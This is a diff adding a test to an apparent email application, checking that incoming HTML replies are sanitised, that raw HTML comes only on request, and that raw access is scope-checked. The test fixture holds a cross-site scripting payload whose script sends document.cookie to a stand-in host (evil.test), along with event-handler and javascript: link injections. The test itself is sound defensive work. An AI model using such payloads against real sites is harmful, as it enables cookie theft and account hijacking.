@@ -330,3 +330,40 @@ def test_a_reply_goes_through_the_campaign_gates_and_counts_against_the_day(worl
     SuppressionService().suppress_emails(ws, [pat_account.email], reason="manual")
     refused("recipient_suppressed")
     assert sent_today() == 2
+
+
+def test_incoming_html_is_sanitised_and_raw_only_on_request(world: World, api: Api) -> None:  # noqa: F811
+    boundary = "alt-" + uuid.uuid4().hex[:8]
+    hostile = (
+        '<p onclick="steal()">Interested!</p><script>fetch("https://evil.test/?c="+document.cookie)</script>'
+        '<img src="https://cdn.acme-corp.test/logo.png" onerror="alert(1)">'
+        '<a href="javascript:alert(2)">click</a> <a href="https://acme-corp.test/deck">deck</a>'
+    )
+    raw = (
+        f"From: Pat <pat@acme-corp.test>\r\nTo: {world.account.email}\r\nSubject: Re: Quick question\r\n"
+        f"Message-ID: <html.{uuid.uuid4().hex[:8]}@acme-corp.test>\r\n"
+        f'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="{boundary}"\r\n\r\n'
+        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nInterested!\r\n"
+        f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{hostile}\r\n--{boundary}--\r\n"
+    )
+    world.deliver(raw.encode())
+    (processed,) = world.sync().processed
+
+    (message,) = api.data("GET", f"/conversations/{processed.conversation_id}")["messages"]
+    html = message["html_body"]
+    for forbidden in ("<script", "document.cookie", "onclick", "onerror", "javascript:"):
+        assert forbidden not in html, (forbidden, html)
+    assert "<p>Interested!</p>" in html
+    assert 'src="https://cdn.acme-corp.test/logo.png"' in html
+    assert 'href="https://acme-corp.test/deck"' in html
+
+    (as_received,) = api.data("GET", f"/conversations/{processed.conversation_id}", params={"format": "raw"})[
+        "messages"
+    ]
+    assert as_received["html_body"].strip() == hostile
+    bad = api.call("GET", f"/conversations/{processed.conversation_id}", params={"format": "html"})
+    assert bad.status_code == 400 and bad.json()["error"]["code"] == "validation_error"
+    # The raw source needs the inbox read scope like the rest of the conversation.
+    token_only = AuthService().create_api_key(world.tenant.workspace_id, name="narrow", scopes=("prospects:read",))[1]
+    refused = api.call("GET", f"/conversations/{processed.conversation_id}", params={"format": "raw"}, token=token_only)
+    assert refused.status_code == 403 and refused.json()["error"]["code"] == "insufficient_scope"
